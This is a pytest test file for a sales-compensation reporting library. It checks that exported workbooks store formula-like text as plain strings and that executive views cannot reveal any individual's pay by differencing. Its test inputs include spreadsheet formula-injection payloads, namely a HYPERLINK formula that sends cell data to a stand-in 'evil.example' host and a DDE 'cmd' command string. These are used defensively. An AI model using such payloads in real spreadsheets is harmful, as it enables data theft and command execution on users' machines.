"""Security and confidentiality of reports (issue 13).

- Workbooks: text that starts like a formula (``=``, ``+``, ``-``, ``@``, tab, CR) is
  written as a string cell, never a formula; numbers stay numbers.
- Executive views: no shown figure, and no sum or difference of shown figures, gives one
  rep's pay or the pay of a group of fewer than the minimum; a plan paying fewer reps than
  the minimum shows its rep counts only.

The confidentiality checks here do their own linear algebra on the *rep-level* system
(one unknown per plan and payee; every figure a table shows is a 0/1 row over them): a
sum is derivable from the shown figures exactly when appending it as a row does not
raise the rank.  They never use the library's own bookkeeping of which rep is in which
figure: memberships come from the roster the test generated.
"""

from __future__ import annotations

import dataclasses
import html
import json
import math
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from conftest import run_cli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from spmkit.errors import SpmkitError
from spmkit.report import tables as fmt
from spmkit.scenario import Comparison
from spmkit.scenario.metrics import OUTCOME_COLUMNS, outcome_deltas, segment_totals

MIN = fmt.MIN_GROUP_REPS
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- workbooks: text stays text ---------------------------------------------------------

def _cells(path: Path):
    book = openpyxl.load_workbook(path)  # not read-only: data_type and quotePrefix are kept
    for ws in book.worksheets:
        for row in ws.iter_rows():
            yield from row


def _no_formula_xml(path: Path) -> None:
    """No sheet of the file holds a formula element, whatever openpyxl makes of it."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _xml_text(text: str) -> str:
    """``text`` as an XML reader returns it: line ends normalized to LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


HOSTILE = ['=HYPERLINK("http://evil.example/?"&D2,"Open")', "+1+2", "-3+4", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "plain", "a=b"]


def test_workbook_writes_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
    n = len(HOSTILE)
    frame = pd.DataFrame({
        "plan": HOSTILE,
        "=segment": HOSTILE[::-1],  # a header can be hostile too
        "total_payout_cents": np.arange(n, dtype=np.int64) * 100_000 - 250,
        "share": np.linspace(-0.5, 0.5, n),
        "reps": pd.array([5, None, *range(n - 2)], dtype="Int64"),
    })
    path = fmt.write_workbook(tmp_path / "t.xlsx", {"=sheet": frame, "two": frame})
    _no_formula_xml(path)
    cells = list(_cells(path))
    assert cells and all(c.data_type != "f" for c in cells)
    book = openpyxl.load_workbook(path)
    for sheet in ("=sheet", "two"):
        ws = book[sheet]
        header = [c.value for c in ws[1]]
        assert header == ["plan", "=segment", "total_payout", "share", "reps"]
        assert ws["B1"].data_type == "s" and ws["B1"].quotePrefix
        for i, text in enumerate(HOSTILE, start=2):
            cell = ws.cell(row=i, column=1)
            assert cell.value == _xml_text(text) and cell.data_type == "s"
            assert cell.quotePrefix == text.startswith(TRIGGERS), text
            money = ws.cell(row=i, column=3)
            assert money.data_type == "n" and money.value == pytest.approx(
                ((i - 2) * 100_000 - 250) / 100)
            assert ws.cell(row=i, column=4).data_type == "n"
        assert ws["E3"].value is None  # a missing count is an empty cell, not text
        assert ws["E2"].value == 5 and ws["E2"].data_type == "n"


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.tuples(st.sampled_from(["", *TRIGGERS]), st.text(min_size=0,
                                                                          max_size=12)),
                      min_size=1, max_size=6))
def test_workbook_any_text_round_trips_as_a_string(tmp_path, texts):
    values = [a + b for a, b in texts]
    values = [v for v in values if v and v == v.strip("\x00")]  # Excel has no NUL
    if not values:
        return
    from openpyxl.utils.exceptions import IllegalCharacterError

    path = tmp_path / "r.xlsx"
    try:
        fmt.write_workbook(path, {"s": pd.DataFrame({"name": values})})
    except IllegalCharacterError:  # control characters Excel cannot store at all
        return
    _no_formula_xml(path)
    ws = openpyxl.load_workbook(path)["s"]
    for i, value in enumerate(values, start=2):
        cell = ws.cell(row=i, column=1)
        assert cell.data_type == "s" and cell.value == _xml_text(value)
        assert cell.quotePrefix == value.startswith(TRIGGERS)


def test_a_name_with_a_url_shows_as_written_and_links_nowhere():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    from spmkit.report.html import clean_html

    page = clean_html(markdown2html_mistune(f"- **{fmt.escape_markdown(BASE_PLAN)}** pays"))
    assert f"<strong>{html.escape(BASE_PLAN, quote=False)}</strong>" in page
    assert "<a" not in page and "\\" not in page


# --- the rep-level linear system ---------------------------------------------------------

def _label(value: object) -> str:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return "(none)"
    text = str(value)
    return "(none)" if not text.strip() else text


def _top_and_rest(rows: pd.DataFrame) -> tuple[set[str], set[str]]:
    """The top ceil(n/5) of the n reps with a quota by attainment (ties: rep id), and the
    other reps with a quota: the two sums a top-fifth share relates."""
    q = rows[rows["quota_cents"] > 0]
    if not len(q):
        return set(), set()
    ranked = sorted(zip(q["attainment"], q["rep_id"], strict=True), key=lambda t: (-t[0], t[1]))
    top = {r for _, r in ranked[:max(1, math.ceil(len(q) / 5))]}
    return top, set(q["rep_id"]) - top


def _top_decile(rows: pd.DataFrame) -> tuple[set[str], set[str]]:
    """The best-paid ceil(n/10) of the n payees (ties: rep id) and the other payees: the two
    sums a top-decile payout share relates."""
    if not len(rows):
        return set(), set()
    ranked = sorted(zip(rows["payout_cents"], rows["rep_id"], strict=True),
                    key=lambda t: (-t[0], t[1]))
    top = {r for _, r in ranked[:max(1, math.ceil(len(rows) / 10))]}
    return top, set(rows["rep_id"]) - top


class System:
    """Unknowns: (plan, rep) for every payee of every plan."""

    def __init__(self, outcomes: pd.DataFrame) -> None:
        self.payees = {str(p): list(g["rep_id"].astype(str))
                       for p, g in outcomes.groupby("plan", sort=False)}
        self.index = {(p, r): i for i, (p, r) in enumerate(
            (p, r) for p, reps in self.payees.items() for r in reps)}
        self.rows: list[np.ndarray] = []
        self.sizes: list[tuple[str, int]] = []

    def vector(self, plan: str, reps) -> np.ndarray:
        v = np.zeros(len(self.index))
        for r in reps:
            if (plan, r) in self.index:
                v[self.index[(plan, r)]] = 1.0
        return v

    def add(self, what: str, plan: str, reps) -> None:
        v = self.vector(plan, reps)
        self.rows.append(v)
        self.sizes.append((what, int(v.sum())))

    def derivable(self, targets: list[np.ndarray]) -> list[int]:
        """Indices of the targets that some combination of the rows equals."""
        if not self.rows:
            return []
        a = np.vstack(self.rows)
        rank = np.linalg.matrix_rank(a)
        return [i for i, t in enumerate(targets)
                if t.any() and np.linalg.matrix_rank(np.vstack([a, t])) == rank]


def shown_system(view: fmt.ReportTables, outcomes: pd.DataFrame) -> System:
    """Every figure of ``view`` that is a pay sum, as a row over (plan, rep)."""
    s = System(outcomes)
    region = dict(zip(outcomes["rep_id"], outcomes["region"].map(_label), strict=True))
    role = dict(zip(outcomes["rep_id"], outcomes["role"].map(_label), strict=True))
    labels = {"region": region, "role": role}
    by_plan = {p: g for p, g in outcomes.groupby("plan", sort=False)}
    for row in view.headline.to_dict("records"):
        plan = row["plan"]
        if not pd.isna(row["total_payout_cents"]):
            s.add(f"total {plan}", plan, s.payees.get(plan, []))
        if not pd.isna(row.get("top_fifth_payout_share", np.nan)):
            # with the total, a share relates the top fifth and the rest: count both known
            top, rest = _top_and_rest(by_plan[plan])
            s.add(f"top {plan}", plan, top)
            s.add(f"rest {plan}", plan, rest)
        if not pd.isna(row.get("top_decile_payout_share", np.nan)):
            top, rest = _top_decile(by_plan[plan])
            s.add(f"top decile {plan}", plan, top)
            s.add(f"rest of decile {plan}", plan, rest)
    for row in view.segments.to_dict("records"):
        for payer in (view.baseline, row["plan"]):
            members = [r for r in s.payees.get(payer, [])
                       if labels[row["by"]][r] == row["segment"]]
            s.add(f"{row['by']} {row['segment']} {payer}", payer, members)
    return s


def protected(s: System, outcomes: pd.DataFrame) -> dict[str, np.ndarray]:
    """Every rep's pay under every plan, and each region, role and region-role cell of a
    plan with between 1 and MIN - 1 of its payees."""
    out = {f"rep {r} under {p}": s.vector(p, [r]) for p, reps in s.payees.items() for r in reps}
    for plan, rows in outcomes.groupby("plan", sort=False):
        reg, rol = rows["region"].map(_label), rows["role"].map(_label)
        groups = [("region", reg), ("role", rol), ("cell", reg + " / " + rol)]
        for kind, key in groups:
            for value, members in rows["rep_id"].groupby(key.to_numpy()):
                if 0 < len(members) < MIN:
                    out[f"{kind} {value} under {plan}"] = s.vector(plan, members)
        if 0 < len(rows) < MIN:
            out[f"every rep of {plan}"] = s.vector(plan, rows["rep_id"])
    return out


def leaks(view: fmt.ReportTables, outcomes: pd.DataFrame) -> list[str]:
    s = shown_system(view, outcomes)
    small = [what for what, n in s.sizes if 0 < n < MIN]
    targets = protected(s, outcomes)
    names = list(targets)
    return small + [names[i] for i in s.derivable([targets[k] for k in names])]


# --- hand-built comparisons (no engine run: fast enough for hypothesis) -----------------

def make_comparison(reps: pd.DataFrame, pay: dict[str, dict[str, int]]) -> Comparison:
    """A Comparison shaped like :func:`spmkit.scenario.compare`'s from a roster
    (``rep_id, region, role, quota_cents, attainment``) and each plan's pay per payee
    (baseline first); deltas and segments come from the library's own functions."""
    plans = list(pay)
    outcomes = []
    for plan, paid in pay.items():
        rows = reps[reps["rep_id"].isin(list(paid))].copy()
        rows["name"] = "Name " + rows["rep_id"]
        rows["target_incentive_cents"] = 1_000_000
        rows["credit_cents"] = (rows["attainment"] * rows["quota_cents"]).round().astype("int64")
        rows["payout_cents"] = rows["rep_id"].map(paid).astype("int64")
        rows["payout_pct_of_target"] = rows["payout_cents"] / 1_000_000
        rows.loc[rows["quota_cents"] == 0, "attainment"] = np.nan
        rows = rows.sort_values("rep_id")[OUTCOME_COLUMNS]
        rows["region"] = rows["region"].astype("str")
        rows["role"] = rows["role"].astype("str")
        outcomes.append(rows.assign(plan=plan))
    long = pd.concat(outcomes, ignore_index=True)
    long = long[["plan", *OUTCOME_COLUMNS]]
    per_plan = {p: long[long["plan"] == p].drop(columns="plan") for p in plans}
    deltas, segments = [], []
    for plan in plans[1:]:
        d = outcome_deltas(per_plan[plans[0]], per_plan[plan])
        deltas.append(d.assign(plan=plan))
        for by in ("region", "role"):
            segments.append(segment_totals(d, by).assign(plan=plan, by=by))
    seg_cols = ["plan", "by", "segment", "reps", "baseline_payout_cents", "payout_cents",
                "delta_cents", "delta_pct"]
    segs = pd.concat(segments, ignore_index=True)[seg_cols] if segments else \
        pd.DataFrame({"plan": pd.Series([], dtype="str")})
    rep_deltas = pd.concat(deltas, ignore_index=True) if deltas else \
        pd.DataFrame({"plan": pd.Series([], dtype="str")})
    base_total = sum(pay[plans[0]].values())
    head = []
    for plan in plans:
        rows = per_plan[plan]
        total = int(rows["payout_cents"].sum())
        top, rest = _top_and_rest(rows)
        paid = rows.set_index("rep_id")["payout_cents"]
        quota_pay = sum(int(paid[r]) for r in top | rest)
        head.append({
            "plan": plan, "total_payout_cents": total, "credited_revenue_cents": total * 12,
            "cost_of_sales": 1 / 12, "reps": len(rows),
            "reps_without_quota": int((rows["quota_cents"] == 0).sum()),
            "median_attainment": float(rows["attainment"].median()),
            "top_fifth_payout_share": (sum(int(paid[r]) for r in top) / quota_pay
                                       if quota_pay else np.nan),
            "top_decile_payout_share": (sum(int(paid[r]) for r in _top_decile(rows)[0])
                                        / total if total else np.nan),
            "share_at_or_above_100": 0.5, "share_band_100_125": 0.5,
            "delta_cents": total - base_total,
            "delta_pct": (total - base_total) / base_total if base_total else np.nan,
            "p10_cents": total - 10, "p50_cents": total, "p90_cents": total + 10})
    headline = pd.DataFrame(head)
    for col in ("total_payout_cents", "credited_revenue_cents", "reps", "reps_without_quota",
                "delta_cents", "p10_cents", "p50_cents", "p90_cents"):
        headline[col] = headline[col].astype("int64")
    per = pd.DataFrame({"plan": plans})
    return Comparison(
        plans=plans, results={}, headline=headline,
        bands=per.assign(band="100-125%", reps=1, share=0.5), outcomes=long,
        rep_deltas=rep_deltas, segments=segs,
        sensitivity=per.assign(sales_change=0.0, total_payout_cents=1, revenue_cents=1,
                               cost_of_sales=1.0),
        simulations=per.assign(draw=0, total_payout_cents=1),
        risk=per.assign(p10=1, p50=2, p90=3),
        pay_curves=per.assign(attainment=1.0, payout_cents=1, payout_pct_of_target=1.0))


def roster(rows: list[tuple[str, str | None, str | None]], *, quota: bool = True
           ) -> pd.DataFrame:
    """``(rep_id, region, role)`` rows; attainment falls with the rep's position."""
    n = len(rows)
    return pd.DataFrame({
        "rep_id": [r[0] for r in rows], "region": [r[1] for r in rows],
        "role": [r[2] for r in rows],
        "quota_cents": [10_000_000 if quota else 0] * n,
        "attainment": [2.0 - i / (n + 1) for i in range(n)]})


def issue_example() -> tuple[pd.DataFrame, dict[str, dict[str, int]]]:
    """Issue 13: region E has one rep; role Y is exactly regions A, D and E, so with A and
    D shown, "Y - A - D" is that rep's pay.  No quotas (no top-fifth share)."""
    layout = ([("A", "Y")] * 6 + [("D", "Y")] * 6 + [("E", "Y")] + [("C", "Z")] * 5
              + [("B", "Z")] * 7)
    reps = roster([(f"R{i:02d}", reg, rol) for i, (reg, rol) in enumerate(layout)],
                  quota=False)
    base = {r: 1_000_00 + 1_37 * i for i, r in enumerate(reps["rep_id"])}
    new = {r: v + 5_00 * (i % 3) for i, (r, v) in enumerate(base.items())}
    return reps, {"Base": base, "New": new}


def test_per_table_suppression_leaked_the_lone_rep_by_differencing():
    """The old per-table rule hides E and the smallest shown region (C), yet Y - A - D is
    E's pay: the checker here finds it (so it is not blind)."""
    reps, pay = issue_example()
    comp = make_comparison(reps, pay)
    old = [fmt.suppress_small_groups(comp.segments[comp.segments["by"] == by], min_reps=MIN)[0]
           for by in ("region", "role")]
    view = fmt.report_tables(comp, "analyst")
    view = dataclasses.replace(view, segments=pd.concat(old, ignore_index=True))
    found = leaks(view, comp.outcomes)
    assert "rep R12 under Base" in found and "rep R12 under New" in found
    lone = pay["Base"]["R12"]
    segs = view.segments.set_index(["by", "segment"])["baseline_payout_cents"]
    assert segs[("role", "Y")] - segs[("region", "A")] - segs[("region", "D")] == lone


def test_issue_example_is_safe_and_keeps_what_it_can():
    reps, pay = issue_example()
    comp = make_comparison(reps, pay)
    view = fmt.report_tables(comp, "executive")
    assert leaks(view, comp.outcomes) == []
    shown = set(zip(view.segments["by"], view.segments["segment"], strict=True))
    # E is hidden; then "total - A - B - C - D" needs one more region hidden (C, the
    # smallest), then "Y - A - D" needs A or D hidden (A, the first of equals).  Roles stay.
    assert shown == {("region", "B"), ("region", "D"), ("role", "Y"), ("role", "Z")}
    assert view.hidden_segments == {"region": 3, "role": 0}
    assert view.metrics["Base"]["total_payout_cents"] == sum(pay["Base"].values())


def test_a_plan_under_the_minimum_shows_rep_counts_only():
    """Four reps: the top fifth is one rep, whose pay share x total is their pay."""
    reps = roster([(f"R{i}", "North", "AE") for i in range(12)])
    base = {r: 50_000_00 + 1_000_00 * i for i, r in enumerate(reps["rep_id"])}
    small = {r: 70_000_00 + 3_00 * i for i, r in enumerate(reps["rep_id"][:4])}
    comp = make_comparison(reps, {"Base": base, "Tiny": small})
    full = comp.metrics()["Tiny"]
    assert full["top_fifth_payout_share"] * full["total_payout_cents"] == pytest.approx(
        small["R0"])  # the leak the rule closes
    view = fmt.report_tables(comp, "executive")
    assert view.small_plans == ("Tiny",)
    tiny = view.metrics["Tiny"]
    assert tiny["reps"] == 4 and tiny["reps_without_quota"] == 0
    assert all(v is None for k, v in tiny.items() if k not in ("reps", "reps_without_quota"))
    assert view.metrics["Base"]["total_payout_cents"] == sum(base.values())
    assert view.metrics["Base"]["top_fifth_payout_share"] is None  # 12 reps: top is 3
    for frame in (view.bands, view.sensitivity, view.risk, view.pay_curves, view.outcomes,
                  view.rep_deltas):
        assert "Tiny" not in set(frame["plan"])
    assert "Base" in set(view.bands["plan"]) and len(view.segments) == 0
    row = view.headline.set_index("plan").loc["Tiny"]
    assert row.drop(["reps", "reps_without_quota"]).isna().all()
    text = fmt.decision_paragraph(view.headline, baseline="Base")
    assert "**Tiny**: figures not shown" in text
    assert fmt.money(sum(small.values())) not in text
    assert leaks(view, comp.outcomes) == []


def test_a_small_baseline_hides_every_change_against_it():
    reps = roster([(f"R{i}", "North", "AE") for i in range(8)])
    base = {r: 10_000_00 + i for i, r in enumerate(reps["rep_id"][:3])}
    new = {r: 20_000_00 + 7 * i for i, r in enumerate(reps["rep_id"])}
    comp = make_comparison(reps, {"Base": base, "New": new})
    view = fmt.report_tables(comp, "executive")
    assert view.small_plans == ("Base",)
    h = view.headline.set_index("plan")
    assert h.loc["New", "total_payout_cents"] == sum(new.values())
    assert pd.isna(h.loc["New", "delta_cents"]) and pd.isna(h.loc["New", "delta_pct"])
    assert len(view.pay_curves) == 0 and len(view.rep_deltas) == 0
    assert leaks(view, comp.outcomes) == []


def test_top_fifth_share_shown_only_when_both_sides_reach_the_minimum():
    reps = roster([(f"R{i:02d}", f"G{i % 5}", f"K{i % 3}") for i in range(25)])
    pay = {"Base": {r: 1_000_00 * (i + 1) for i, r in enumerate(reps["rep_id"])}}
    view = fmt.report_tables(make_comparison(reps, pay), "executive")
    assert view.metrics["Base"]["top_fifth_payout_share"] is not None  # top 5, rest 20
    pay = {"Base": {r: v for r, v in list(pay["Base"].items())[:20]}}
    view = fmt.report_tables(make_comparison(reps, pay), "executive")
    assert view.metrics["Base"]["top_fifth_payout_share"] is None  # top 4


def test_top_decile_share_shown_only_when_the_decile_reaches_the_minimum():
    """50 payees: the top decile is 5 reps, shown; 49 payees: 5 reps still (ceil 4.9);
    40 payees: 4 reps, hidden (with the total it would give their pay)."""
    for n, shown in ((50, True), (49, True), (40, False)):
        reps = roster([(f"R{i:02d}", f"G{i % 5}", f"K{i % 3}") for i in range(n)])
        pay = {"Base": {r: 1_000_00 * (i + 1) for i, r in enumerate(reps["rep_id"])}}
        comp = make_comparison(reps, pay)
        view = fmt.report_tables(comp, "executive")
        got = view.metrics["Base"]["top_decile_payout_share"]
        assert (got is not None) == shown, n
        assert leaks(view, comp.outcomes) == []


def test_leverage_needs_twenty_payees_in_the_executive_view():
    for n, shown in ((20, True), (19, False)):
        reps = roster([(f"R{i:02d}", f"G{i % 4}", "AE") for i in range(n)])
        pay = {"Base": {r: 1_000_00 * (i + 1) for i, r in enumerate(reps["rep_id"])}}
        comp = make_comparison(reps, pay)
        comp = dataclasses.replace(comp, headline=comp.headline.assign(leverage=1.8))
        view = fmt.report_tables(comp, "executive")
        assert (view.metrics["Base"]["leverage"] is not None) == shown, n
        assert fmt.report_tables(comp, "analyst").metrics["Base"]["leverage"] == 1.8


def test_analyst_view_is_the_whole_comparison():
    reps, pay = issue_example()
    comp = make_comparison(reps, pay)
    view = fmt.report_tables(comp, "analyst")
    assert view.segments is comp.segments and view.outcomes is comp.outcomes
    assert view.metrics == comp.metrics() and "rep_outcomes" in view.sheets()
    assert len(view.movers("New", 3)) > 0
    executive = fmt.report_tables(comp, "executive")
    assert list(executive.sheets()) == ["headline", "segments", "bands", "sensitivity", "risk"]
    assert not set(fmt.IDENTITY_COLUMNS) & set(executive.outcomes.columns)
    with pytest.raises(SpmkitError):
        executive.movers("New")
    with pytest.raises(SpmkitError):
        fmt.report_tables(comp, "board")


# --- the property: nothing identifiable, whatever the roster ------------------------------

REGIONS = ["North", "South", "East", "=West", None, " "]
ROLES = ["AE", "AM", "@SE", None]


@st.composite
def comparisons(draw):
    n = draw(st.integers(1, 28))
    people = draw(st.lists(st.tuples(
        st.sampled_from(REGIONS), st.sampled_from(ROLES), st.booleans(),
        st.floats(0.0, 3.0, allow_nan=False), st.lists(st.booleans(), min_size=3, max_size=3),
        st.lists(st.integers(0, 10_000_000), min_size=3, max_size=3)),
        min_size=n, max_size=n))
    scenarios = draw(st.integers(0, 2))
    everyone = draw(st.booleans())  # most reports: every plan pays the same reps
    reps = pd.DataFrame({
        "rep_id": [f"R{i:02d}" for i in range(n)],
        "region": [p[0] for p in people], "role": [p[1] for p in people],
        "quota_cents": [10_000_000 if p[2] or i % 4 else 0 for i, p in enumerate(people)],
        "attainment": [round(p[3], 3) for p in people]})
    pay = {}
    for k, plan in enumerate(["Base", "Alt", "Other"][:scenarios + 1]):
        paid = {r: p[5][k] for r, p in zip(reps["rep_id"], people, strict=True)
                if everyone or p[4][k]}
        pay[plan] = paid
    return reps, pay


@settings(max_examples=60, deadline=None)
@given(case=comparisons())
def test_no_rep_or_small_group_can_be_worked_out_from_an_executive_view(case):
    reps, pay = case
    comp = make_comparison(reps, pay)
    view = fmt.report_tables(comp, "executive")
    assert leaks(view, comp.outcomes) == []
    for plan, paid in pay.items():
        numbers = view.metrics[plan]
        assert numbers["reps"] == len(paid)
        if len(paid) < MIN:  # a small plan: counts only
            assert plan in view.small_plans
            assert all(v is None for k, v in numbers.items()
                       if k not in ("reps", "reps_without_quota"))
        else:  # a plan's own total is never hidden to protect someone else
            assert numbers["total_payout_cents"] == sum(paid.values())
    # what is shown is what the library computed: shown rows are unchanged
    merged = view.segments.merge(comp.segments, how="left", indicator=True)
    assert (merged["_merge"] == "both").all()


# --- end to end: `spmkit report --audience executive` ------------------------------------

BASE_PLAN = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
SMALL_PLAN = "@Small team"
PLAN_YAML = """\
plan: '{name}'
currency: USD
year_start: 2025-01-01
period: quarter
components:
  - id: commission
    type: commission
    attainment: ytd
    tiers:
      method: marginal
      bands:
        - {{from: 0.0, bcr_multiple: {low}}}
        - {{from: 1.0, bcr_multiple: 1.5}}
"""
#: (region, role, count) of the baseline's 25 reps: "-Lone" has one rep and role "=Y" is
#: exactly regions "=A", "=D" and "-Lone".  The small plan pays four more reps in "@B".
LAYOUT = [("=A", "=Y", 6), ("=D", "=Y", 6), ("-Lone", "=Y", 1), ("+C", "+Z", 5),
          ("@B", "+Z", 7)]


def _write_org(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True)
    rows = []
    for region, role, count in LAYOUT:
        rows += [(region, role, BASE_PLAN)] * count
    rows += [("@B", "+Z", SMALL_PLAN)] * 4
    roster = pd.DataFrame({
        "rep_id": [f"R{i:03d}" for i in range(len(rows))],
        "name": [f"=cmd|' /C calc'!A{i}" for i in range(len(rows))],
        "role": [r[1] for r in rows], "region": [r[0] for r in rows],
        "plan": [r[2] for r in rows], "target_incentive": "20000"})
    deals = pd.DataFrame({
        "deal_id": [f"D{i:04d}" for i in range(2 * len(rows))],
        "rep_id": [f"R{i // 2:03d}" for i in range(2 * len(rows))],
        "close_date": ["2025-03-15", "2025-08-20"] * len(rows),
        "amount": [f"{40_000 + 1_234.56 * i + 97.13 * (i % 7):.2f}"
                   for i in range(2 * len(rows))]})
    quotas = pd.DataFrame({"rep_id": roster["rep_id"], "year": 2025, "quota": "100000"})
    data = folder / "data"
    data.mkdir()
    roster.to_csv(data / "roster.csv", index=False)
    deals.to_csv(data / "deals.csv", index=False)
    quotas.to_csv(data / "quotas.csv", index=False)
    base = folder / "baseline.yaml"
    base.write_text(PLAN_YAML.format(name=BASE_PLAN, low="1.0"), encoding="utf-8")
    small = folder / "small.yaml"
    small.write_text(PLAN_YAML.format(name=SMALL_PLAN, low="0.9"), encoding="utf-8")
    return {"data": data, "baseline": base, "small": small}


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """An executive report on an org built to leak: names that start like formulas, a
    region of one rep that other groups difference out, a plan of four reps."""
    where = tmp_path_factory.mktemp("hostile")
    files = _write_org(where / "org")
    proc = run_cli("report", "--data", files["data"], "--baseline", files["baseline"],
                   "--scenarios", files["small"], "--out", where / "out",
                   "--audience", "executive", "--draws", "50", "--seed", "1")
    assert proc.returncode == 0, proc.stderr
    from spmkit.plan import load_plan
    from spmkit.scenario import compare
    from spmkit.tables import load_data_dir

    comp = compare(load_plan(files["baseline"]), [load_plan(files["small"])],
                   load_data_dir(files["data"]), draws=5, seed=1)
    return where / "out", comp


def test_e2e_workbook_has_no_formula_and_keeps_names_as_text(hostile_report):
    out, comp = hostile_report
    path = out / "tables.xlsx"
    _no_formula_xml(path)
    cells = list(_cells(path))
    assert all(c.data_type != "f" for c in cells)
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
    book = openpyxl.load_workbook(path)
    head = {c.value: i for i, c in enumerate(book["headline"][1])}
    plans = [row[head["plan"]].value for row in book["headline"].iter_rows(min_row=2)]
    assert plans == [BASE_PLAN, SMALL_PLAN]
    total = book["headline"].cell(row=2, column=head["total_payout"] + 1)
    assert total.data_type == "n"
    assert total.value == pytest.approx(comp.headline["total_payout_cents"].iloc[0] / 100)
    small_total = book["headline"].cell(row=3, column=head["total_payout"] + 1)
    assert small_total.value is None


def test_e2e_executive_figures_reveal_no_rep(hostile_report):
    out, comp = hostile_report
    metrics = json.loads((out / "metrics.json").read_text(encoding="utf-8"))
    small = metrics[SMALL_PLAN]
    assert small["reps"] == 4 and small["total_payout"] is None
    assert small["top_fifth_payout_share"] is None and small["median_attainment"] is None
    assert metrics[BASE_PLAN]["total_payout_cents"] == int(comp.headline["total_payout_cents"]
                                                           .iloc[0])
    # the workbook's segment rows, as a linear system over the generated roster
    book = openpyxl.load_workbook(out / "tables.xlsx")
    ws = book["segments"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c.value for c in r), strict=True))
            for r in ws.iter_rows(min_row=2)]
    view = fmt.report_tables(comp, "executive")
    assert [(r["by"], r["segment"]) for r in rows] == list(
        zip(view.segments["by"], view.segments["segment"], strict=True))
    assert ("region", "-Lone") not in [(r["by"], r["segment"]) for r in rows]
    assert leaks(view, comp.outcomes) == []
    # nothing in the page or the files spells a protected amount
    o = comp.outcomes
    lone = o.loc[(o["plan"] == BASE_PLAN) & (o["region"] == "-Lone"), "payout_cents"]
    assert len(lone) == 1
    secrets = [int(lone.iloc[0]), int(comp.headline["total_payout_cents"].iloc[1])]
    tiny = comp.outcomes[comp.outcomes["plan"] == SMALL_PLAN]
    secrets += [int(v) for v in tiny["payout_cents"]]
    page = (out / "report.html").read_text(encoding="utf-8")
    workbook_values = {c.value for c in _cells(out / "tables.xlsx")}
    for cents in secrets:
        assert fmt.money(cents) not in page, cents
        assert cents / 100 not in workbook_values and cents not in workbook_values
        assert cents not in [v for p in metrics.values() for v in p.values()]
    assert f">{html.escape('-Lone')}<" not in page
    for r in rows:
        assert f">{html.escape(str(r['segment']))}<" in page
    assert "fewer than 5 reps" in page and "@Small team" in page
    assert f"<strong>{html.escape(BASE_PLAN, quote=False)}</strong>" in page  # shown as written
